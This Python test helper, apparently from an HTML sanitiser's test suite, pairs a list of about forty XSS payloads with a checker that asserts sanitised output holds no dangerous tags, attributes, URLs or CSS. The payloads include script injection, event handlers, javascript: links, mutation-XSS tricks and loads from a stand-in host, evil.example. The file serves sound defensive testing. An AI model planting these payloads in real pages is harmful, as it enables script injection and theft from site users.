"""HTML that tries to run, fetch or mislead, and what is seen of a page."""

import re
from html.parser import HTMLParser

PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="


class Seen(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.words = [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.words.append(data)

    def all(self, tag):
        return [attributes for name, attributes in self.tags if name == tag]

    @property
    def text(self):
        return " ".join("".join(self.words).split())


HOSTILE = [
    "<script>steal()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=steal()>",
    f'<img src="{PIXEL}" onload="steal()">',
    '<img src="https://evil.example/p.gif">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+" srcset="//evil.example/x 2x">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<a href="javascript:steal()">a</a>',
    '<a href="javascript:steal()//https://example.org">a</a>',
    '<a href="java\nscript:steal()">a</a>',
    '<a href=" &#106;avascript:steal()">a</a>',
    '<a href="data:text/html,<script>steal()</script>">a</a>',
    "<svg onload=steal()><circle/></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input autofocus onfocus=steal()><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "<style>#T_a { color: red } </style><script>steal()</script>",
    "<style>#T_a { background: url(//evil.example/x) }</style>",
    "<div style='background:url(//evil.example/x)'>a</div>",
    "<div style='position:fixed;inset:0;width:expression(steal())'>a</div>",
    "<details open ontoggle=steal()><summary>a</summary></details>",
    "<b onmouseover=steal()>a</b>",
    "<p title='\"><script>steal()</script>'>a</p>",
    "<p class='x\" onclick=\"steal()'>a</p>",
    "<!--><script>steal()</script>-->",
    "<!-- --!><img src=x onerror=steal()> -->",
    "<![CDATA[<script>steal()</script>]]>",
    "<textarea></textarea><img src=x onerror=steal()>",
    "<xmp></xmp><script>steal()</script>",
    "<template><script>steal()</script></template>",
    "<video src=//evil.example autoplay onplay=steal()></video>",
    "</div></main></body><script>steal()</script>",
    "<plaintext><script>steal()</script>",
    "<<script>script>steal()<</script>/script>",
    '<table background="//evil.example/x"><tr><td>a</table>',
]
ALLOWED = {
    "class", "id", "lang", "dir", "translate", "colspan", "rowspan", "scope", "start", "open",
    "width", "height", "style", "src", "alt", "href", "rel", "role", "aria-label", "tabindex",
}  # fmt: skip


def assert_harmless(html):
    page = Seen(html)
    for tag, attributes in page.tags:
        assert tag not in {"script", "iframe", "object", "embed", "form", "input", "meta", "link"}
        assert tag not in {"svg", "math", "base", "template", "noscript", "textarea", "button"}
        assert set(attributes) <= ALLOWED, (tag, attributes)
        assert attributes.get("src", "data:image/").startswith("data:image/")
        assert re.match(r"https?://|mailto:", attributes.get("href", "mailto:"))
        assert "url(" not in attributes.get("style", "")
    for css in re.findall(r"<style>(.*?)</style>", html, flags=re.S):
        assert not re.search(r"url|@|<|\\", css)
